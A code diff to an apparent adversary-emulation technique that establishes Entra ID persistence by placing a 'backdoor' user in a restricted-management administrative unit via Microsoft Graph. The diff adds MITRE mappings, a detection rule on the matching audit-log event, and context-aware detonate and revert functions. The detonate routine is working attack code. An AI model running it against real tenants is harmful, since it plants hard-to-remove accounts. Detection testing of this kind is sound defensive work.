@@ -44,16 +44,23 @@ Using [Entra ID audit logs](https://learn.microsoft.com/en-us/entra/identity/mon
 - <code>Add administrative unit</code>
 - <code>Add member to restricted management administrative unit</code>
 `,
-		Platform:                   stratus.EntraID,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence},
+		Platform:              stratus.EntraID,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence},
+		MitreAttackTechniques: []string{"T1136.003", "T1098"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"properties.message": {"Add member to restricted management administrative unit"}},
+			},
+			FalsePositives: []string{"Administrators protecting sensitive accounts"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	// Fetch details from TF
 	backdoorUserId := params["backdoor_user_id"]
 	backdoorUserName := params["backdoor_user_name"]
@@ -70,7 +77,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	restricted := true
 	requestBodyAU.SetIsMemberManagementRestricted(&restricted)
 
-	auResult, err := graphClient.Directory().AdministrativeUnits().Post(context.Background(), requestBodyAU, nil)
+	auResult, err := graphClient.Directory().AdministrativeUnits().Post(ctx, requestBodyAU, nil)
 
 	if err != nil {
 		return errors.New("could not create AU: " + err.Error())
@@ -84,7 +91,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	requestBodyMember := graphmodels.NewReferenceCreate()
 	odataId := fmt.Sprintf("https://graph.microsoft.com/v1.0/users/%s", backdoorUserId)
 	requestBodyMember.SetOdataId(&odataId)
-	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Members().Ref().Post(context.Background(), requestBodyMember, nil)
+	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Members().Ref().Post(ctx, requestBodyMember, nil)
 
 	if err != nil {
 		return errors.New("could not add member to AU: " + err.Error())
@@ -97,14 +104,14 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	// AU ID from detonate
 	suffix := fmt.Sprintf(" - %s", params["suffix"])
 
 	graphClient := providers.EntraId().GetGraphClient()
 
 	// 1. Get ID of Stratus created AU
-	auResult, err := graphClient.Directory().AdministrativeUnits().Get(context.Background(), nil)
+	auResult, err := graphClient.Directory().AdministrativeUnits().Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not fetch AUs: " + err.Error())
 	}
@@ -120,7 +127,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 
 	// 4. Delete Restricted AU
 	log.Println("Deleting restricted Administrative Unit")
-	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Delete(context.Background(), nil)
+	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Delete(ctx, nil)
 
 	if err != nil {
 		return errors.New("could not delete AU: " + err.Error())